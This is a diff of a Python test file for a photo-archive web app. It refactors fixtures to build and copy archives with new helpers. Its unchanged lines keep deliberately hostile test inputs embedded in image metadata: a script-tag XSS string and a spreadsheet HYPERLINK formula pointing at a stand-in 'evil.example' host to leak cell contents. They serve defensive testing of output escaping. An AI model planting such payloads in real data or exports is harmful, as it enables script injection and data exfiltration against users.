@@ -25,7 +25,11 @@ from indexer.sync import sync
 from web import create_app
 from web.context import archive as request_archive
 
+from helpers.archives import copy_archive
 from helpers.media import make_exif, make_jpeg, make_xmp
+
+# Every test here runs against both catalog engines (tests/conftest.py).
+pytestmark = pytest.mark.engines
 
 EVIL = '<script>alert("x")</script>'
 
@@ -33,13 +37,14 @@ EVIL = '<script>alert("x")</script>'
 # The tests of this archive are marked slow: it is the sample ingested again, with a file
 # of its own in the event, so it cannot be the shared sample archive.
 @pytest.fixture(scope="module")
-def site_archive(sample: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+def site_archive(sample: Path, tmp_path_factory: pytest.TempPathFactory,
+                 new_archive: Callable[[Path], Path]) -> Path:
     base = tmp_path_factory.mktemp("web")
     event = base / "event"
     shutil.copytree(sample, event)
     make_jpeg(event / "photos" / "evil.jpg", exif=make_exif(artist=EVIL, description=EVIL),
               xmp=make_xmp(title=f"Title {EVIL}"))
-    root = base / "archive"
+    root = new_archive(base / "archive")
     with Archive.open(root) as archive:
         ingest_folder(archive, event, jobs=2, progress=False)
         sync(archive)
@@ -274,10 +279,11 @@ def test_missing_index_is_503_not_500(tmp_path: Path) -> None:
 
 
 @pytest.fixture(scope="module")
-def small_archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def small_archive(tmp_path_factory: pytest.TempPathFactory,
+                  new_archive: Callable[[Path], Path]) -> Path:
     base = tmp_path_factory.mktemp("small")
     make_jpeg(base / "event" / "a.jpg")
-    with Archive.open(base / "archive") as archive:
+    with Archive.open(new_archive(base / "archive")) as archive:
         ingest_folder(archive, base / "event", jobs=1, progress=False)
         sync(archive)
     return base / "archive"
@@ -296,7 +302,7 @@ def _schema(text: str) -> object:
 def test_an_unusable_index_is_a_503_saying_what_is_wrong(small_archive: Path, tmp_path: Path,
                                                          damage: object, said: str) -> None:
     root = tmp_path / "archive"
-    shutil.copytree(small_archive, root, symlinks=True)
+    copy_archive(small_archive, root)
     damage(root / "index")
     client = create_app(root, {"TESTING": True}).test_client()
     answer = client.get("/api/search", query_string={"q": "a"})
@@ -309,7 +315,7 @@ def test_an_unusable_index_is_a_503_saying_what_is_wrong(small_archive: Path, tm
 def test_serve_rebuilds_an_index_an_older_version_made(small_archive: Path, tmp_path: Path,
                                                        live_server: Callable) -> None:
     root = tmp_path / "archive"
-    shutil.copytree(small_archive, root, symlinks=True)
+    copy_archive(small_archive, root)
     _schema("3\n")(root / "index")
     server = live_server(root)
     status, _headers, body = server.get("/api/search?q=")
@@ -362,13 +368,14 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 @pytest.fixture(scope="module")
-def tricky_archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
+def tricky_archive(tmp_path_factory: pytest.TempPathFactory,
+                   new_archive: Callable[[Path], Path]) -> Path:
     """Names and metadata as people and cameras write them, awkward for the site."""
     base = tmp_path_factory.mktemp("tricky")
     event = base / "event"
     make_jpeg(event / NEWLINE_NAME, exif=make_exif(artist=FORMULA))
     make_jpeg(event / "closing.jpg", size=(70, 50), xmp=make_xmp(title=SCRIPT_END))
-    root = base / "archive"
+    root = new_archive(base / "archive")
     with Archive.open(root) as archive:
         ingest_folder(archive, event, jobs=1, progress=False)
         sync(archive)
